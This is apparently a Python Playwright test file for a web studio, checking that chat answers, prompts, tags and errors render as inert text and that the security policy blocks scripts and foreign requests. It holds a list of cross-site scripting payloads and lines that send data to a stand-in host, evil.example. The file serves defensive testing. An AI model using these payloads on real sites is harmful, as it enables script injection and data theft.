"""What models and people write is never run, and nothing leaves the machine (cases 23 to 25, 27 and 30)."""

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.studio.stand_in import World
from tests.studio.stand_in_designs import Designs
from tests.studio.stand_in_knowledge import Documents, make_context
from tests.studio.stand_in_prompts import PromptLibrary
from tests.studio.stand_in_trust import Trust
from tests.studio.waiting import wait_until

HOSTILE = [
    "<script>window.ran = 1; alert(1)</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>",
    "[click](javascript:window.ran=1)",
    "[click](data:text/html,<script>window.ran=1</script>)",
    "<a href='javascript:window.ran=1'>x</a>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<form action='https://evil.example'><input name=q></form>",
    "![x](https://evil.example/?q=secret)",
    "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css'</style>",
    "<link rel=prefetch href=https://evil.example/p><base href=https://evil.example/>",
    "<svg><image href='https://evil.example/i.png'/></svg>",
    "```html\n<script>window.ran = 1</script>\n```",
    "`<b onclick=window.ran=1>`",
    "<div style='background:url(https://evil.example/s)'>",
    "[a]: https://evil.example 'x'\n[a]",
    "| <script>window.ran=1</script> | b |\n|---|---|\n| ![x](//evil.example/t.png) | d |",
    "${window.ran=1} {{window.ran=1}} <%= window.ran=1 %>",
    "<unfinished <script>window.ran = 1",
]


def assert_nothing_ran(page: Any) -> None:
    assert page.evaluate("window.ran") is None
    assert page.locator("main :is(script, iframe, style, link, base, [onerror], [onload], [onclick])").count() == 0
    addresses = page.evaluate("[...document.querySelectorAll('main a')].map((a) => a.href)")
    assert not [each for each in addresses if each.startswith(("javascript:", "data:", "vbscript:"))]


def test_an_answer_is_text_whatever_it_contains(visit: Any) -> None:
    world = World(outputs=0, tokens_per_second=500)
    world.reply = lambda _: "\n\n".join(HOSTILE)
    world.holds_jobs = True
    studio = visit(world)
    page = studio.open("chat")
    page.locator("#chat-box").fill(HOSTILE[0])
    page.keyboard.press("Enter")
    expect(page.locator("gl-answer gl-markdown")).to_contain_text("window.ran")
    assert_nothing_ran(page)  # also while it is not finished
    world.holds_jobs = False
    expect(page.locator("gl-thread .turn.assistant:not(.writing)")).to_be_visible(timeout=15_000)
    expect(page.locator(".turn.assistant")).to_contain_text("<img src=x onerror='window.ran = 1'>")
    expect(page.locator(".turn.assistant")).to_contain_text("<unfinished <script>window.ran = 1")
    assert_nothing_ran(page)
    assert page.locator(".turn.assistant img").count() == 0
    page.get_by_role("link", name="Gallery", exact=True).click()


def test_prompts_names_tags_notes_and_files_are_text(visit: Any) -> None:
    world = World(outputs=0)
    for n, text in enumerate(HOSTILE):
        output = world.add_output("icons/1", "image", prompt=text)
        output.tags = [text[:60]]
        world.add_output("shakespeare/1", "text", prompt=text, text=text)
        output.model = f"{text[:40]}/{n}"
    Trust(world)
    studio = visit(world)
    for route in ("make", "gallery", f"gallery/{output.id}"):
        page = studio.open(route)
        shown = "gl-output-detail gl-viewer" if "/" in route else f".page-{route} gl-viewer"
        expect(page.locator(shown).first).to_be_visible()
        assert_nothing_ran(page)
    page.locator("gl-provenance").get_by_role("button", name="What it copied").click()
    expect(page.get_by_text("OFL-1.1").first).to_be_visible()
    page.keyboard.press("Control+k")
    page.get_by_role("combobox", name="Search").fill("window")
    expect(page.get_by_role("option").first).to_contain_text("window")
    assert page.evaluate("window.ran") is None


def test_documents_prompts_and_designs_are_text(visit: Any) -> None:
    world = World(outputs=0, tokens_per_second=2000)
    text = HOSTILE[1]
    Documents(world, "harbour")
    world.reply = lambda _: f"The lighthouse. {text}"
    library = PromptLibrary(world)
    Designs(world)
    library.save("toast", {"prompt": f"{text} {{who}}", "system": HOSTILE[0], "description": text, "note": text})
    context = make_context(text)
    assert context.knowledge is not None
    for source in context.knowledge.sources:
        source.title, source.text = text, HOSTILE[0]
    world.find_context = lambda _: context
    studio = visit(world)
    page = studio.open("chat")
    page.locator("#chat-box").fill("Who?")
    page.keyboard.press("Enter")
    page.locator(".sources details.source summary").first.click()
    expect(page.get_by_text("<img src=x onerror").first).to_be_visible()
    assert_nothing_ran(page)
    for route in ("prompts", "prompts/toast"):
        page = studio.open(route)
        expect(page.get_by_text("<img src=x onerror").first).to_be_visible()
        assert_nothing_ran(page)
    page = studio.open("designs")
    page.get_by_label("What should it be?").fill("a bridge")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Design", exact=True).click()
    expect(page.locator(".design-card").first).to_be_visible()
    job = next(each for each in world.jobs.values() if each.kind == "design")
    job.result = {**(job.result or {}), "title": text}
    page.reload()
    expect(page.get_by_role("heading", name="<img src=x onerror")).to_be_visible()
    assert_nothing_ran(page)


def test_an_error_of_the_server_is_text(visit: Any) -> None:
    world = World(outputs=0)
    world.fault["jobs"] = (400, {"message": "<img src=x onerror='window.ran=1'> is wrong.", "code": "x"})
    studio = visit(world)
    page = studio.open("make")
    page.locator("#make-prompt").fill("a")
    page.get_by_role("button", name="Make", exact=True).click()
    expect(page.get_by_role("alert")).to_contain_text("<img src=x onerror")
    assert page.evaluate("window.ran") is None
    studio.faults.clear()  # the browser's line about status 400


def test_the_policy_refuses_scripts_styles_and_foreign_addresses(visit: Any) -> None:
    studio = visit(World(outputs=0))
    page = studio.open("make")
    page.evaluate("window.tried = 0")
    for attack in (
        "eval('window.ran = 1')",
        "new Function('window.ran = 1')()",
        "document.body.innerHTML = '<img src=x onerror=window.ran=1>'",
        "fetch('https://evil.example/')",
    ):
        page.evaluate(  # as the page would
            f"setTimeout(async () => {{ try {{ await ({attack}) }} catch {{}} window.tried += 1 }})"
        )
    page.evaluate("""() => setTimeout(() => { const script = document.createElement('script');
        try { script.textContent = 'window.ran = 1'; } catch {}
        document.body.append(script);
        window.tried += 1 })""")
    page.wait_for_function("window.tried === 5")
    wait_until(page, lambda: studio.faults)  # the browser said that it refused
    assert page.evaluate("window.ran") is None
    studio.faults.clear()
    studio.requests[:] = [url for url in studio.requests if "evil" not in url]  # asked for, and refused before it left


def test_without_a_session_the_sign_in_page_is_all_there_is(visit: Any) -> None:
    world = World(outputs=4)
    world.is_signed_in = False
    studio = visit(world)
    studio.page.goto(f"{studio.address}/#token=bad")
    page = studio.page
    expect(page.get_by_role("heading", name="Sign in to Genloom")).to_be_visible()
    expect(page).not_to_have_url(re.compile("token"))
    page.get_by_label("Name").fill("ada")
    page.get_by_label("Password").fill("wrong")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("wrong")
    page.get_by_label("Password").fill("good")
    page.keyboard.press("Enter")
    expect(page.get_by_role("link", name="Gallery").first).to_be_visible()
    studio.faults.clear()  # the browser's lines about status 401


@pytest.mark.parametrize("route", ["make", "chat", "gallery"])
def test_a_lost_connection_is_said_and_comes_back(visit: Any, route: str) -> None:
    studio = visit(World(outputs=4))
    page = studio.open(route)
    wait_until(page, lambda: studio.world.waiting)  # it is connected
    studio.world.breaks_events = True
    expect(page.get_by_text("Connection lost")).to_be_visible()
    studio.world.breaks_events = False
    expect(page.get_by_text("Connection lost")).to_have_count(0)
    studio.faults.clear()


@pytest.mark.parametrize("code", ["good", "bad"])
def test_a_provider_signs_in_and_leaves_nothing_in_the_address(visit: Any, code: str) -> None:
    world = World(outputs=4)
    world.is_signed_in = False
    world.provider = "login.example.org"
    studio = visit(world)
    world.provider_address = f"{studio.address}/?code={code}&state=s"  # as if the provider had led back at once
    page = studio.open("make")
    page.get_by_role("button", name="Sign in with login.example.org").click()
    if code == "good":
        expect(page.get_by_role("link", name="Gallery").first).to_be_visible()
    else:
        expect(page.get_by_role("alert")).to_contain_text("wrong")
    expect(page).not_to_have_url(re.compile("code|state"))
    studio.faults.clear()  # the browser's lines about status 401
